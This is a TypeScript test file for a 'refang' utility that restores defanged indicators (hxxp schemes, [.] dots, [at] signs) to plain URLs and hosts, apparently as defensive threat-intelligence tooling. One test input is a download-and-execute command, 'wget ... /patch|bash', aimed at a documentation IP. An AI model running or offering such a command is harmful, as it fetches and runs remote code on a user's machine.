import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { refang, refangText } from './refang.ts';

const DOTS = ['[.]', '(.)', '{.}', '[dot]', '(dot)', '{dot}', '[DOT]', ' [.] ', '[ . ]', '[.', '.]', '\\.', ' dot '];
const SCHEMES: readonly (readonly [string, string])[] = [
  ['hxxp://', 'http://'],
  ['hXXp://', 'http://'],
  ['HXXPS://', 'https://'],
  ['hxxps[:]//', 'https://'],
  ['http[:]//', 'http://'],
  ['https[://]', 'https://'],
  ['hxxp(:)//', 'http://'],
  ['h**p://', 'http://'],
  ['h__ps://', 'https://'],
  ['hxxp:// ', 'http://'],
  ['hxxp[:]/[/]', 'http://'],
  ['fxp://', 'ftp://'],
  ['https://', 'https://'],
];

describe('refang', () => {
  for (const dot of DOTS)
    it(`reads ${JSON.stringify(dot)} as a dot`, () => {
      expect(refang(`evil${dot}example`)).toBe('evil.example');
      expect(refang(`198${dot}51${dot}100${dot}7`)).toBe('198.51.100.7');
    });

  for (const [seen, meant] of SCHEMES)
    it(`reads ${JSON.stringify(seen)} as ${meant}`, () => {
      expect(refang(`${seen}evil[.]example/a?b=c`)).toBe(`${meant}evil.example/a?b=c`);
    });

  for (const at of ['[@]', '(at)', '[at]', ' [at] ', '{@}', '(@)', ' at '])
    it(`reads ${JSON.stringify(at)} as an at sign`, () => {
      expect(refang(`someone${at}evil[.]example`)).toBe('someone@evil.example');
    });

  it('reads a colon before a port and inside an IPv6 address', () => {
    expect(refang('198.51.100[.]7[:]8080')).toBe('198.51.100.7:8080');
    expect(refang('2001[:]db8[:][:]1')).toBe('2001:db8::1');
  });

  it('leaves what is not defanged as it is', () => {
    for (const text of [
      'http://[2001:db8::1]:8080/x',
      'https://example.com/a(b)/c?list[0]=x&y={z}',
      'https://example.com/at/dot/',
      'example.com',
      'ftp.example.com',
      'hosts.example.com',
      'some.dot.example',
    ])
      expect(refang(text)).toBe(text);
  });

  it('gives a plain host or URL back unchanged, whatever it is', () => {
    fc.assert(
      fc.property(fc.oneof(fc.domain(), fc.ipV4(), fc.ipV6(), fc.webUrl({ withQueryParameters: true })), (text) => {
        fc.pre(!/[[\](){}]/.test(text));
        expect(refang(text)).toBe(text);
      }),
    );
  });

  it('finds back any defanged host', () => {
    fc.assert(
      fc.property(fc.domain(), fc.constantFrom(...DOTS), (domain, dot) => {
        expect(refang(domain.replaceAll('.', dot))).toBe(domain);
      }),
    );
  });

  it('undoes only unmistakable marks in other text', () => {
    expect(refangText('wget -qO- hxxp://192.0.2[.]93/patch|bash')).toBe('wget -qO- http://192.0.2.93/patch|bash');
    expect(refangText('grep -E "[.] (dot) a at b"')).toBe('grep -E "[.] (dot) a at b"');
  });
});
